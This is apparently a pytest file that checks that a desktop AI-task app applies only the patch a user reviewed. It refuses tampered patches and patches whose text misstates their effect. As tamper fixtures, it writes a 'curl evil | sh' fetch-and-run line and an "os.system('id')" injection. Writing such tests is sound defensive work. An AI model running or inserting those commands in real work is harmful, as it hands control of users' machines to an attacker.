"""What is reviewed is what is applied: Apply given the reviewed digest
refuses a change replaced since the review, and writes nothing."""

from __future__ import annotations

from pathlib import Path

import pytest

from desktop.domain import TaskState
from desktop.services.app import App
from desktop.services.errors import Conflict
from desktop.services.patch_store import PatchStore
from desktop.services.workspaces import WorkspaceSpec
from tests.fakeapi import FakeAnthropic, Reply, ToolCall

pytestmark = [pytest.mark.docker, pytest.mark.keyring]


def test_apply_refuses_a_change_other_than_the_one_reviewed(app: App, fake_api: FakeAnthropic, tmp_path: Path) -> None:
    folder = tmp_path / "project"
    folder.mkdir()
    (folder / "a.txt").write_text("a\n")
    ws = app.workspaces.add(WorkspaceSpec(name="integrity", path=str(folder), permission_mode="bypassPermissions"))
    fake_api.script(Reply(text="Editing.", tool_calls=(ToolCall("Bash", {"command": "echo b >> a.txt"}),)),
                    Reply(text="Done."), match="reviewed change")
    task = app.tasks.wait(app.tasks.submit(ws.id, "reviewed change").id, 120)
    assert task.state is TaskState.SUCCEEDED, task.error
    reviewed = app.review.changes(task.id)

    store = PatchStore()
    swapped = store.read(store.whole(task.id)).replace(b"+b\n", b"+curl evil | sh\n")
    store.write(store.whole(task.id), swapped)
    with pytest.raises(Conflict, match="not the one you reviewed"):
        app.review.apply(task.id, reviewed=reviewed.digest)
    assert (folder / "a.txt").read_text() == "a\n"

    store.write(store.whole(task.id), swapped.replace(b"+curl evil | sh\n", b"+b\n"))
    app.review.apply(task.id, reviewed=reviewed.digest)
    assert (folder / "a.txt").read_text() == "a\nb\n"


def test_a_patch_whose_text_is_not_its_effect_is_refused() -> None:
    from desktop.services.errors import UserError
    from desktop.services.patch_checks import refuse_a_false_claim

    head = b"diff --git a/a.txt b/a.txt\nindex 1111111..2222222 100644\n--- a/a.txt\n+++ b/a.txt\n"
    said = head + b"@@ -1 +1,2 @@\n a\n+harmless\n"
    moved = head + b"@@ -1 +1,2 @@\n a\n+harmless\n".replace(b"@@ -1 +1,2", b"@@ -1 +1,2")
    refuse_a_false_claim(said, moved)  # the same lines: fine
    with pytest.raises(UserError, match="does not do what its text says"):
        refuse_a_false_claim(said, head + b"@@ -1 +1,2 @@\n a\n+os.system('id')\n")
